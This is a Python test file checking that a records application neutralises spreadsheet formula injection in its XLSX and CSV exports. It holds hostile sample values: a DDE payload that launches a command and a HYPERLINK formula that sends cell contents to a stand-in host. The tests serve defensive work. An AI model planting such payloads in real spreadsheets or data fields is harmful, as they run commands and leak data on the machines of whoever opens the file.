"""Formula injection (issue 21): a name or code that a spreadsheet would run as a formula is
written as text in every XLSX (no formula cell at all) and with a leading apostrophe in every
CSV; plain numbers, negative ones included, are left alone."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest

from ansinh.accounts.access import SYSTEM
from ansinh.arrears.models import Contribution, Employer
from ansinh.registry.models import Person, Spell
from tests.arrears.factories import d, make_units, make_user

EVIL_EMPLOYER = "=cmd|' /C calc'!A0"
EVIL_PERSON = '=HYPERLINK("http://x.example/?"&A1,"Bấm")'


def formula_cells(xlsx: bytes) -> list[str]:
    """Every formula element of every sheet of an XLSX file."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        return [
            name
            for name in z.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in z.read(name)
        ]


@pytest.fixture
def world(db):
    units = make_units()
    p = Person.objects.create(person_id="P01", full_name=EVIL_PERSON, phone="0901234567")
    Spell.objects.create(
        person=p,
        scheme="hi",
        group="household",
        unit_id="C1",
        start_date=d("2024-07-03"),
        end_date=d("2025-07-02"),
    )
    Employer.objects.create(code="E1", name=EVIL_EMPLOYER, unit_id="C1")
    Contribution.objects.create(employer_id="E1", period=d("2025-03-01"), amount_due=1_000_000)
    return units


def test_worklist_and_arrears_sheets_hold_no_formula(world, client):
    from ansinh.arrears.services import followup_sync

    followup_sync(as_of=d("2025-09-30"), actor=SYSTEM)
    client.force_login(make_user("adm", "province"))
    seen = 0
    for url in (
        "/worklists/export.xlsx?kind=lapsed&unmask=1",
        "/worklists/export.xlsx?kind=arrears&unmask=1",
        "/worklists/export.xlsx",
    ):
        r = client.get(url)
        if r.status_code != 200:
            continue
        seen += 1
        assert formula_cells(r.content) == [], url
    assert seen >= 1


def test_csv_text_cells_are_neutralised_numbers_kept(cli, tmp_path, world):
    bad = tmp_path / "e.csv"
    bad.write_text("code,name,unit_code,employees\nE9,Một,=1+1,-5\n", encoding="utf-8")
    out = tmp_path / "errors.csv"
    r = cli("import", "employers", str(bad), "--errors", str(out))
    assert r.code == 1
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    values = {row["column"]: row["value"] for row in rows}
    assert values["unit_code"] == "'=1+1"
    assert values["employees"] == "-5"  # a number, not a formula


def test_sheet_text_rule():
    from ansinh.core.formats import sheet_text

    for text in ("=SUM(A1)", "+cmd", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\tx", "\rx"):
        assert sheet_text(text) == "'" + text
    for value in ("-54851", "+5", "3.000.000", "Nguyễn Văn An", "", -5, 12.5, None):
        assert sheet_text(value) == value
